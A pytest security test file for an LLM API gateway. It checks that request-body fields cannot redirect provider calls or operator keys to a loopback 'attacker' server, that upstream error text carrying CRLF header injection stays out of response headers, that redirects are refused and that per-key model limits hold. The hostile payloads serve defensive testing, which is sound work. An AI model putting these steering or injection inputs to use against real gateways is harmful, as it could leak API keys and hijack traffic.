"""Attacks on the upstream call, through the real gateway: loopback servers stand in for the operator's
upstream (`legit`) and for an attacker. Each test is a reproduction that must fail to reproduce:
no body field steers a provider call, no upstream text reaches a header, no redirect is followed, keys are
held to their models, admin queries are validated, and the shipped deploy files and examples are closed."""

from __future__ import annotations

import hashlib
import json
import re
import textwrap
import threading
import time
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path

import httpx
import pytest
import yaml
from conftest import ROOT, Gateway

OPERATOR_KEY = "sk-operator-secret-4d1e"
ANTHROPIC_KEY = "sk-ant-operator-secret-77b0"


class Recorder:
    """A loopback HTTP server that records every request and answers as it is told (OpenAI or Anthropic
    answers, a redirect, an error with the given text, or a stream that fails after its first chunk)."""

    def __init__(self, name: str) -> None:
        self.name = name
        self.requests: list[dict] = []
        self.mode = "ok"
        self.redirect_to = ""
        self.error_text = ""
        recorder = self

        class Handler(BaseHTTPRequestHandler):
            protocol_version = "HTTP/1.1"

            def log_message(self, *args) -> None:
                pass

            def _handle(self) -> None:
                length = int(self.headers.get("content-length") or 0)
                raw = self.rfile.read(length) if length else b""
                recorder.requests.append({"method": self.command, "path": self.path, "raw": raw,
                                          "headers": {k.lower(): v for k, v in self.headers.items()}})
                status, headers, body = recorder.answer(self.command, self.path, raw)
                self.send_response(status)
                for k, v in headers.items():
                    self.send_header(k, v)
                self.send_header("Content-Length", str(len(body)))
                self.end_headers()
                self.wfile.write(body)

            do_GET = do_POST = _handle

        self.server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.server.daemon_threads = True
        self.base = f"http://127.0.0.1:{self.server.server_address[1]}"
        self.url = self.base + "/v1"
        threading.Thread(target=self.server.serve_forever, daemon=True).start()

    def reset(self) -> None:
        self.requests.clear()
        self.mode, self.redirect_to, self.error_text = "ok", "", ""

    def bodies(self) -> list[dict]:
        return [json.loads(r["raw"]) for r in self.requests if r["raw"]]

    def answer(self, method: str, path: str, raw: bytes) -> tuple[int, dict, bytes]:
        if self.mode == "redirect":
            return 307, {"Location": self.redirect_to + path}, b""
        anthropic = path.endswith("/messages")
        if self.mode == "error":
            if anthropic:
                body = {"type": "error", "error": {"type": "api_error", "message": self.error_text}}
            else:
                body = {"error": {"message": self.error_text, "type": "server_error", "code": None}}
            return 500, {"Content-Type": "application/json"}, json.dumps(body).encode()
        if method == "GET":
            return 200, {"Content-Type": "text/plain"}, b"llamacpp:requests_processing 0\n"
        request = json.loads(raw or b"{}")
        if anthropic:
            return self._anthropic(request)
        if path.endswith("/embeddings"):
            return 200, {"Content-Type": "application/json"}, json.dumps({
                "object": "list", "model": request.get("model", "m"), "usage": {"prompt_tokens": 2, "total_tokens": 2},
                "data": [{"object": "embedding", "index": 0, "embedding": [0.5, 0.25]}]}).encode()
        base = {"id": "chatcmpl-legit", "created": int(time.time()), "model": request.get("model", "m")}
        if not request.get("stream"):
            return 200, {"Content-Type": "application/json"}, json.dumps({
                **base, "object": "chat.completion",
                "choices": [{"index": 0, "message": {"role": "assistant", "content": f"{self.name} answer"},
                             "finish_reason": "stop"}],
                "usage": {"prompt_tokens": 5, "completion_tokens": 3, "total_tokens": 8}}).encode()
        first = {**base, "object": "chat.completion.chunk",
                 "choices": [{"index": 0, "delta": {"role": "assistant", "content": f"{self.name} "},
                              "finish_reason": None}]}
        events = [b"data: " + json.dumps(first).encode()]
        if self.mode == "stream_error":
            events.append(b"data: " + json.dumps({"error": {"message": self.error_text, "code": 500}}).encode())
        else:
            last = {**base, "object": "chat.completion.chunk",
                    "choices": [{"index": 0, "delta": {"content": "answer"}, "finish_reason": "stop"}]}
            events += [b"data: " + json.dumps(last).encode(), b"data: [DONE]"]
        return 200, {"Content-Type": "text/event-stream"}, b"\n\n".join(events) + b"\n\n"

    def _anthropic(self, request: dict) -> tuple[int, dict, bytes]:
        message = {"id": "msg_legit", "type": "message", "role": "assistant", "model": request.get("model", "m"),
                   "content": [{"type": "text", "text": f"{self.name} answer"}], "stop_reason": "end_turn",
                   "stop_sequence": None, "usage": {"input_tokens": 5, "output_tokens": 3}}
        if not request.get("stream"):
            return 200, {"Content-Type": "application/json"}, json.dumps(message).encode()
        events = [
            {"type": "message_start", "message": {**message, "content": [], "stop_reason": None}},
            {"type": "content_block_start", "index": 0, "content_block": {"type": "text", "text": ""}},
            {"type": "content_block_delta", "index": 0, "delta": {"type": "text_delta", "text": f"{self.name} answer"}},
            {"type": "content_block_stop", "index": 0},
            {"type": "message_delta", "delta": {"stop_reason": "end_turn", "stop_sequence": None},
             "usage": {"output_tokens": 3}},
            {"type": "message_stop"},
        ]
        body = b"".join(f"event: {e['type']}\ndata: {json.dumps(e)}\n\n".encode() for e in events)
        return 200, {"Content-Type": "text/event-stream"}, body

    def stop(self) -> None:
        self.server.shutdown()
        self.server.server_close()


POLICY = """
version: 1
models:
  native:
    tier: cloud
    client: native
    litellm: {{model: openai/legit-native, api_base: "{legit}/v1", api_key: "{key}"}}
    timeout: 20s
  same-name:
    tier: cloud
    litellm: {{model: openai/same-name, api_base: "{legit}/v1", api_key: "{key}"}}
  via-litellm:
    tier: cloud
    client: litellm
    litellm: {{model: openai/legit-litellm, api_base: "{legit}/v1", api_key: "{key}"}}
    timeout: 20s
  claude:
    tier: cloud
    client: litellm                    # these tests are about what reaches litellm
    litellm: {{model: anthropic/claude-3-5-haiku-20241022, api_base: "{legit}", api_key: "{akey}"}}
    timeout: 20s
  vllm:
    tier: edge
    client: litellm
    litellm: {{model: hosted_vllm/legit-vllm, api_base: "{legit}/v1", api_key: "{key}"}}
  # As the example policies write cloud models: the key from the environment, the provider's default base
  # URL (here pointed at the legit server through the provider's own environment variable).
  env-openai:
    tier: cloud
    client: litellm
    litellm: {{model: openai/gpt-4o-mini, api_key: env:OPENAI_API_KEY}}
  env-claude:
    tier: cloud
    client: litellm
    litellm: {{model: anthropic/claude-3-5-haiku-20241022, api_key: env:ANTHROPIC_API_KEY}}
  env-embed:
    tier: cloud
    kind: embedding
    client: litellm
    litellm: {{model: openai/text-embedding-3-small, api_key: env:OPENAI_API_KEY}}
  native-embed:
    tier: cloud
    kind: embedding
    litellm: {{model: openai/legit-embed, api_base: "{legit}/v1", api_key: "{key}"}}
classifier: {{kind: length}}
routes:
  - name: auto
    when: {{model: auto}}
    targets: [native]
  - {{name: canned-native, when: {{model: canned-native}}, targets: [native], degrade: {{reply: "canned reply"}}}}
  - {{name: canned-litellm, when: {{model: canned-via-litellm}}, targets: [via-litellm],
     degrade: {{reply: "canned reply"}}}}
  - {{name: canned-claude, when: {{model: canned-claude}}, targets: [claude], degrade: {{reply: "canned reply"}}}}
retry: {{attempts: 1}}
breaker: {{enabled: false}}
deadline: 60s
auth:
  required: false
  keys:
    - {{name: limited, sha256: {limited}, models: [native, "claude*"]}}
    - {{name: free, sha256: {free}}}
"""

LIMITED_KEY, FREE_KEY = "limited-key-9f3c2a", "free-key-51be0d"


def _sha(text: str) -> str:
    return hashlib.sha256(text.encode()).hexdigest()


@pytest.fixture(scope="module")
def servers():
    legit, attacker = Recorder("legit"), Recorder("attacker")
    yield legit, attacker
    legit.stop()
    attacker.stop()


@pytest.fixture(scope="module")
def gw(servers, tmp_module):
    legit, _ = servers
    env = {"OPENAI_API_KEY": OPERATOR_KEY, "OPENAI_BASE_URL": legit.url, "ANTHROPIC_API_KEY": ANTHROPIC_KEY,
           "ANTHROPIC_API_BASE": legit.base}
    gateway = Gateway(POLICY.format(legit=legit.base, key=OPERATOR_KEY, akey=ANTHROPIC_KEY,
                                    limited=_sha(LIMITED_KEY), free=_sha(FREE_KEY)), tmp_module, env=env)
    try:
        for model in ("via-litellm", "claude"):  # litellm's first import is slow: pay for it here
            httpx.post(gateway.base + "/v1/chat/completions", timeout=60,
                       json={"model": model, "messages": [{"role": "user", "content": "warm up"}]})
        yield gateway
    finally:
        gateway.stop()


@pytest.fixture
def legit(servers):
    servers[0].reset()
    servers[1].reset()
    yield servers[0]
    servers[0].reset()


@pytest.fixture
def attacker(servers):
    return servers[1]


def chat(gw, body: dict, headers: dict | None = None, timeout: float = 60) -> httpx.Response:
    body = {"messages": [{"role": "user", "content": "hello"}], **body}
    return httpx.post(gw.base + "/v1/chat/completions", json=body, headers=headers or {}, timeout=timeout)


def answer_text(r: httpx.Response) -> str:
    """The assistant's text of a JSON answer or of an SSE stream."""
    if not r.headers.get("content-type", "").startswith("text/event-stream"):
        return r.json()["choices"][0]["message"]["content"]
    text = []
    for line in r.text.splitlines():
        if line.startswith("data: {"):
            for choice in json.loads(line[6:]).get("choices") or []:
                text.append(choice.get("delta", {}).get("content") or "")
    return "".join(text)


# ---- 1. a body cannot steer the provider call ---------------------------------------------------------

def _steering(attacker) -> dict[str, dict]:
    """Body fields that litellm would take as call options, each pointing at the attacker."""
    return {
        "base_url": {"base_url": attacker.url},
        "api_base": {"api_base": attacker.url},
        "api_key": {"api_key": "sk-attacker"},
        "extra_headers": {"extra_headers": {"x-evil": "1", "Authorization": "Bearer sk-attacker",
                                            "x-api-key": "sk-attacker"}},
        "headers": {"headers": {"x-evil": "1"}},
        "custom_llm_provider": {"custom_llm_provider": "openai", "api_base": attacker.url},
        "mock_response": {"mock_response": "attacker's canned answer"},
        "model_list": {"model_list": [{"model_name": "x", "litellm_params": {"model": "openai/x",
                                                                              "api_base": attacker.url}}]},
        "call_options": {"client": "x", "timeout": 0.001, "num_retries": 5, "stream_timeout": 0.001},
    }


STEERING = ["base_url", "api_base", "api_key", "extra_headers", "headers", "custom_llm_provider", "mock_response",
            "model_list", "call_options"]
MODELS = ["via-litellm", "claude", "env-openai", "env-claude", "vllm", "native"]


@pytest.mark.parametrize("model", MODELS)
@pytest.mark.parametrize("field", STEERING)
@pytest.mark.parametrize("stream", [False, True])
def test_body_cannot_steer_the_upstream_call(gw, legit, attacker, model, field, stream):
    body = {"model": model, "stream": stream, **_steering(attacker)[field]}
    r = chat(gw, body)
    assert attacker.requests == [], f"the attacker received {attacker.requests}"
    assert r.status_code == 200, r.text
    assert r.headers.get("x-gateway-degraded") is None, (r.headers, r.text)
    assert answer_text(r) == "legit answer"
    posts = [q for q in legit.requests if q["method"] == "POST"]
    assert len(posts) == 1
    headers = posts[0]["headers"]
    if "claude" in model:
        assert posts[0]["path"].endswith("/v1/messages")
        assert headers.get("x-api-key") == ANTHROPIC_KEY
    else:
        assert posts[0]["path"] == "/v1/chat/completions"
        assert headers.get("authorization") == f"Bearer {OPERATOR_KEY}"
    assert "x-evil" not in headers


@pytest.mark.parametrize("model", ["env-embed", "native-embed"])
@pytest.mark.parametrize("field", STEERING)
def test_embedding_body_cannot_steer_the_upstream_call(gw, legit, attacker, model, field):
    r = httpx.post(gw.base + "/v1/embeddings", timeout=60,
                   json={"model": model, "input": "hello", **_steering(attacker)[field]})
    assert attacker.requests == [], f"the attacker received {attacker.requests}"
    assert r.status_code == 200, r.text
    assert r.json()["data"][0]["embedding"] == [0.5, 0.25]
    posts = [q for q in legit.requests if q["method"] == "POST"]
    assert len(posts) == 1 and posts[0]["path"] == "/v1/embeddings"
    assert posts[0]["headers"].get("authorization") == f"Bearer {OPERATOR_KEY}"
    assert "x-evil" not in posts[0]["headers"]


@pytest.mark.parametrize("model", ["via-litellm", "env-claude"])
def test_body_cannot_add_a_logging_callback(gw, legit, attacker, model):
    """litellm's success callbacks post the conversation to their own hosts (in batches, in the background)."""
    body = {"model": model, "success_callback": ["langsmith"], "langsmith_base_url": attacker.base,
            "langsmith_api_key": "x", "langsmith_batch_size": 1}
    for _ in range(2):
        assert chat(gw, body).status_code == 200
    deadline = time.monotonic() + 6
    while time.monotonic() < deadline and not attacker.requests:
        time.sleep(0.1)
    assert attacker.requests == [], attacker.requests


def test_both_paths_send_the_same_openai_parameters(gw, legit):
    """The litellm path forwards the client's OpenAI parameters, `user` and `metadata` included, as the
    native path does (which passes the body through)."""
    tool = {"type": "function", "function": {"name": "lookup", "description": "d",
                                             "parameters": {"type": "object", "properties": {"q": {"type": "string"}}}}}
    params = {"temperature": 0.3, "top_p": 0.9, "seed": 7, "max_tokens": 50, "stop": ["END"], "user": "user-42",
              "metadata": {"team": "research"}, "presence_penalty": 0.5, "frequency_penalty": 0.25,
              "logit_bias": {"50256": -100}, "n": 1, "store": False, "logprobs": True, "top_logprobs": 2,
              "tools": [tool], "tool_choice": "auto", "parallel_tool_calls": False,
              "response_format": {"type": "json_object"}, "max_completion_tokens": 60, "service_tier": "auto",
              "reasoning_effort": "low", "verbosity": "low", "safety_identifier": "sid-1", "prompt_cache_key": "pk",
              "prediction": {"type": "content", "content": "x"}, "modalities": ["text"],
              "web_search_options": {"search_context_size": "low"}, "prompt_cache_retention": "24h"}
    for stream in (False, True):
        if stream:
            params = {**params, "stream_options": {"include_usage": True}}
        sent = {}
        for model in ("native", "via-litellm"):
            legit.reset()
            r = chat(gw, {"model": model, "stream": stream, **params})
            assert r.status_code == 200 and r.headers.get("x-gateway-degraded") is None, r.text
            sent[model] = legit.bodies()[0]
        for name, value in params.items():
            assert sent["native"].get(name) == value, name
            assert sent["via-litellm"].get(name) == value, (name, stream, sent["via-litellm"])


def test_native_forwards_unknown_fields_as_bytes_only(gw, legit, attacker):
    r = chat(gw, {"model": "native", "api_base": attacker.url, "x_vendor_option": {"a": 1}})
    assert r.status_code == 200
    received = legit.requests[0]
    assert json.loads(received["raw"])["x_vendor_option"] == {"a": 1}  # passed through, destination unchanged
    assert attacker.requests == []


@pytest.mark.parametrize("smuggled", ['"model": "gpt-4-expensive", ', '"\\u006dodel": "gpt-4-expensive", '])
def test_duplicate_model_key_is_not_forwarded(gw, legit, smuggled):
    """Two top-level `model` keys: the gateway reads the last; the bytes it forwards must hold only that one
    (an upstream reading the first would otherwise serve a model the policy did not choose)."""
    raw = '{' + smuggled + '"model": "same-name", "messages": [{"role": "user", "content": "hi"}]}'
    r = httpx.post(gw.base + "/v1/chat/completions", content=raw.encode(), timeout=30,
                   headers={"content-type": "application/json"})
    assert r.status_code == 200, r.text
    forwarded = legit.requests[0]["raw"]
    assert b"gpt-4-expensive" not in forwarded
    assert json.loads(forwarded)["model"] == "same-name"


def test_client_bytes_are_forwarded_when_the_model_key_is_single(gw, legit):
    raw = b'{"model": "same-name",  "messages": [{"role": "user", "content": "caf\\u00e9"}], "x_keep": 1}'
    r = httpx.post(gw.base + "/v1/chat/completions", content=raw, timeout=30)
    assert r.status_code == 200
    assert legit.requests[0]["raw"] == raw  # the fast path: the client's own bytes


# ---- 4. nothing from an upstream reaches a header ---------------------------------------------------------

HOSTILE = "boom\r\nx-injected: yes\r\n\r\ninternal http://10.9.8.7:8000/v1 failed \u00fc\u2713 " + "z" * 400


def _clean_headers(r: httpx.Response) -> None:
    for name, value in r.headers.items():
        assert "x-injected" not in name.lower()
        assert "10.9.8.7" not in value and "\r" not in value and "\n" not in value
        assert value.isascii() and len(value) <= 300, (name, value)


@pytest.mark.parametrize("model", ["native", "via-litellm", "claude"])
@pytest.mark.parametrize("stream", [False, True])
def test_upstream_error_text_never_reaches_a_header(gw, legit, model, stream):
    legit.mode, legit.error_text = "error", HOSTILE
    r = chat(gw, {"model": f"canned-{model}", "stream": stream})
    assert r.status_code == 200, r.text
    assert r.headers["x-gateway-degraded"] == "true"
    assert r.headers["x-gateway-degraded-reason"] == "upstream_server_error"
    _clean_headers(r)
    assert "canned reply" in r.text
    assert "10.9.8.7" not in r.text
    assert "10.9.8.7" in gw.log_path.read_text(errors="replace")  # the details are in the log


@pytest.mark.parametrize("model", ["native", "via-litellm", "claude"])
def test_503_names_the_error_kind_not_the_upstream_text(gw, legit, model):
    legit.mode, legit.error_text = "error", HOSTILE
    r = chat(gw, {"model": model})
    assert r.status_code == 503
    _clean_headers(r)
    error = r.json()["error"]
    assert "upstream_server_error" in error["message"] and "10.9.8.7" not in r.text


def test_mid_stream_error_event_names_the_kind_only(gw, legit):
    legit.mode, legit.error_text = "stream_error", HOSTILE
    with httpx.stream("POST", gw.base + "/v1/chat/completions", timeout=30, json={
            "model": "native", "stream": True, "messages": [{"role": "user", "content": "hi"}]}) as r:
        text = "".join(r.iter_text())
    assert "legit" in text and '"error"' in text and text.rstrip().endswith("data: [DONE]")
    assert "10.9.8.7" not in text and "x-injected" not in text


def test_header_value_is_bounded_printable_ascii():
    from gateway.pipeline.headers import degraded_reason, header_value

    assert header_value("a\r\nb: c\x00\x7f\u00e9\u2713") == b"a?b: c?"
    assert len(header_value("x" * 10_000)) == 200
    assert degraded_reason("server") == "upstream_server_error"
    assert degraded_reason("weird kind\r\nX: 1") == "upstream_weird_kind_x_1"


# ---- 6. redirects are never followed -------------------------------------------------------------------

@pytest.mark.parametrize("model", MODELS)
@pytest.mark.parametrize("stream", [False, True])
def test_upstream_redirect_is_not_followed(gw, legit, attacker, model, stream):
    legit.mode, legit.redirect_to = "redirect", attacker.base
    r = chat(gw, {"model": model, "stream": stream})
    assert attacker.requests == [], attacker.requests
    assert legit.requests, "the legit upstream was called"
    assert r.status_code == 503 and r.headers["x-gateway-degraded"] == "true"
    if "claude" not in model:  # litellm reports an Anthropic 3xx as a connection error, without its status
        assert r.headers["x-gateway-degraded-reason"] == "upstream_redirect_refused"


@pytest.mark.parametrize("model", ["env-embed", "native-embed"])
def test_embedding_upstream_redirect_is_not_followed(gw, legit, attacker, model):
    legit.mode, legit.redirect_to = "redirect", attacker.base
    r = httpx.post(gw.base + "/v1/embeddings", json={"model": model, "input": "hello"}, timeout=60)
    assert attacker.requests == [], attacker.requests
    assert legit.requests, "the legit upstream was called"
    assert r.status_code == 503, r.text


HANDOFF_POLICY = """
version: 1
models:
  failing:
    tier: edge
    litellm: {{model: openai/failing, api_base: "{legit}/v1", api_key: t}}
    load: {{probe: llamacpp, interval: 100ms}}
classifier: {{kind: length}}
routes:
  - name: auto
    when: {{model: auto}}
    targets: [failing]
retry: {{attempts: 1}}
degrade: {{reply: "busy", webhook: "{legit}/handoff"}}
"""


def test_handoff_webhook_and_load_probe_do_not_follow_redirects(legit, attacker, tmp_path):
    legit.mode, legit.redirect_to = "redirect", attacker.base
    gateway = Gateway(HANDOFF_POLICY.format(legit=legit.base), tmp_path)
    try:
        r = chat(gateway, {"model": "auto"})
        assert r.status_code == 200 and r.headers["x-gateway-degraded"] == "true"
        deadline = time.monotonic() + 5
        while time.monotonic() < deadline and not any(q["path"] == "/handoff" for q in legit.requests):
            time.sleep(0.05)
        time.sleep(0.5)  # more probes and webhook retries
    finally:
        gateway.stop()
    paths = {q["path"] for q in legit.requests}
    assert "/handoff" in paths and "/metrics" in paths, paths
    assert attacker.requests == [], attacker.requests


# ---- 6. per-key model allow-list ------------------------------------------------------------------------

@pytest.mark.parametrize("key, model, status", [
    (LIMITED_KEY, "native", 200), (LIMITED_KEY, "claude", 200), (LIMITED_KEY, "auto", 403),
    (LIMITED_KEY, "via-litellm", 403), (FREE_KEY, "via-litellm", 200), (FREE_KEY, "auto", 200),
])
def test_key_may_use_only_its_models(gw, legit, key, model, status):
    r = chat(gw, {"model": model}, headers={"Authorization": f"Bearer {key}"})
    assert r.status_code == status, r.text
    if status == 403:
        error = r.json()["error"]
        assert error["code"] == "model_not_allowed" and error["param"] == "model"
        assert error["type"] == "permission_error"
        assert legit.requests == []


def test_admin_explain_applies_the_key_models(gw):
    r = httpx.post(gw.base + "/admin/explain", headers=gw.admin(), timeout=10, json={
        "model": "auto", "_api_key": LIMITED_KEY, "messages": [{"role": "user", "content": "hi"}]})
    assert r.status_code == 403 and r.json()["error"]["code"] == "model_not_allowed"


def _compile(text: str):
    from gateway.policy.compile import compile_policy

    return compile_policy(textwrap.dedent(text), "keys.yaml", env={})


KEYS_POLICY = """
version: 1
models:
  edge: {{tier: edge, litellm: {{model: openai/e, api_base: "http://127.0.0.1:9/v1"}}}}
routes:
  - {{name: r, when: {{model: [auto, team-model]}}, targets: [edge]}}
auth:
  keys:
    - {{name: a, sha256: {digest}, models: {models}}}
"""


def test_key_models_are_validated_with_file_and_line():
    from gateway.policy.compile import PolicyInvalid

    digest = _sha("x")
    policy = _compile(KEYS_POLICY.format(digest=digest, models="[auto, edge, team-model, 'ed*']"))
    assert policy.keys[0].models == ("auto", "edge", "team-model", "ed*")
    assert _compile(KEYS_POLICY.format(digest=digest, models="edge")).keys[0].models == ("edge",)
    for bad, message in (("[edgy]", "unknown model 'edgy' (did you mean 'edge'?)"),
                         ("[]", "must name at least one model"), ("[1, 2]", "must be a name or a list of names")):
        with pytest.raises(PolicyInvalid) as info:
            _compile(KEYS_POLICY.format(digest=digest, models=bad))
        assert any(message in str(e) for e in info.value.errors), info.value.errors
        assert all(str(e).startswith("keys.yaml:9:") for e in info.value.errors), info.value.errors


# ---- 6. admin query validation -------------------------------------------------------------------------

@pytest.mark.parametrize("days", ["abc", "-1", "0", "99999999999999999999", "1e3", "7.5", " ", "\u0663", ""])
def test_admin_usage_days_is_validated(gw, days):
    r = httpx.get(gw.base + "/admin/usage", params={"days": days}, headers=gw.admin(), timeout=10)
    assert r.status_code == 400, r.text
    error = r.json()["error"]
    assert error["param"] == "days" and error["type"] == "invalid_request_error"


@pytest.mark.parametrize("given", [[1], "x", {"a": 1}, {"x-h": ["v"]}])
def test_admin_explain_headers_are_validated(gw, given):
    r = httpx.post(gw.base + "/admin/explain", headers=gw.admin(), timeout=10, json={
        "model": "auto", "_headers": given, "messages": [{"role": "user", "content": "hi"}]})
    assert r.status_code == 400 and r.json()["error"]["param"] == "_headers", r.text


@pytest.mark.parametrize("days", ["1", "30", "366"])
def test_admin_usage_days_in_range(gw, days):
    r = httpx.get(gw.base + "/admin/usage", params={"days": days}, headers=gw.admin(), timeout=10)
    assert r.status_code == 200 and isinstance(r.json(), dict)


# ---- 6. shipped files are closed by default -----------------------------------------------------------

TRIVIAL = ["", "test", "test1", "test2", "test3", "key", "secret", "password", "admin", "changeme", "change-me",
           "sk-test", "demo", "example", "1234", "12345678", "research", "support", "support-bot"]


def test_example_keys_are_not_digests_of_trivial_strings():
    trivial = {_sha(word) for word in TRIVIAL}
    found = []
    for path in list((ROOT / "policies").glob("*.yaml")) + list((ROOT / "deploy").rglob("*.yaml")):
        for digest in re.findall(r"\b[0-9a-f]{64}\b", path.read_text()):
            if digest in trivial:
                found.append((path.name, digest))
    assert not found, found


def test_compose_publishes_on_loopback_and_requires_a_key():
    compose = yaml.safe_load((ROOT / "deploy" / "docker-compose.yml").read_text())
    for name, service in compose["services"].items():
        for port in service.get("ports") or []:
            spec = port if isinstance(port, str) else f"{port.get('host_ip', '')}:{port.get('published')}"
            host = re.sub(r"\$\{[A-Z_]+:-([^}]*)\}", r"\1", spec).split(":")[0]
            assert host == "127.0.0.1", f"{name} publishes {spec} on all interfaces by default"
    from gateway.policy.compile import PolicyInvalid, load_policy

    path = str(ROOT / "deploy" / "policy" / "policy.yaml")
    policy = load_policy(path, env={"GATEWAY_CLIENT_KEY": "k"})
    assert policy.auth_required and policy.keys
    with pytest.raises(PolicyInvalid):  # no key set: the stack does not start open
        load_policy(path, env={})
    gateways = [s for s in compose["services"].values() if (s.get("command") or [])[:2] == ["gateway", "serve"]]
    assert gateways and all(":?" in str(s["environment"]["GATEWAY_CLIENT_KEY"]) for s in gateways)


def test_per_team_keys_example_passes_policy_check():
    from gateway.policy.compile import load_policy

    policy = load_policy(str(ROOT / "policies" / "per-team-keys.yaml"), env={})
    assert policy.auth_required and all(k.models for k in policy.keys)


def test_docs_say_what_a_client_can_influence():
    text = Path(ROOT / "docs" / "policy.md").read_text()
    assert "What a client can and cannot influence" in text
    from gateway.providers.litellm_client import CLIENT_PARAMS

    for name in sorted(CLIENT_PARAMS):
        assert f"`{name}`" in text, name


def test_models_list_shows_a_limited_key_only_its_models(gw):
    def ids(headers: dict) -> set[str]:
        r = httpx.get(gw.base + "/v1/models", headers=headers, timeout=10)
        assert r.status_code == 200, r.text
        return {m["id"] for m in r.json()["data"]}

    everything = ids({})
    limited = ids({"Authorization": f"Bearer {LIMITED_KEY}"})
    assert limited == {m for m in everything if m == "native" or m.startswith("claude")}, limited
    assert "native" in limited and "via-litellm" not in limited
    assert ids({"Authorization": f"Bearer {FREE_KEY}"}) == everything


def test_models_list_needs_a_key_when_the_policy_does(tmp_path):
    policy = f"""
version: 1
models:
  edge-a: {{tier: edge, litellm: {{model: openai/edge-a, api_base: "http://127.0.0.1:9/v1", api_key: t}}}}
routes:
  - {{name: all, targets: [edge-a]}}
auth:
  required: true
  keys:
    - {{name: one, sha256: {_sha(FREE_KEY)}}}
"""
    gateway = Gateway(policy, tmp_path)
    try:
        r = httpx.get(gateway.base + "/v1/models", timeout=10)
        assert r.status_code == 401 and r.json()["error"]["code"] == "invalid_api_key", r.text
        r = httpx.get(gateway.base + "/v1/models", headers={"Authorization": f"Bearer {FREE_KEY}"}, timeout=10)
        assert r.status_code == 200 and [m["id"] for m in r.json()["data"]] == ["auto", "edge-a"], r.text
        r = httpx.get(gateway.base + "/v1/models", headers=gateway.admin(), timeout=10)  # the dashboard
        assert r.status_code == 200 and [m["id"] for m in r.json()["data"]] == ["auto", "edge-a"], r.text
    finally:
        gateway.stop()
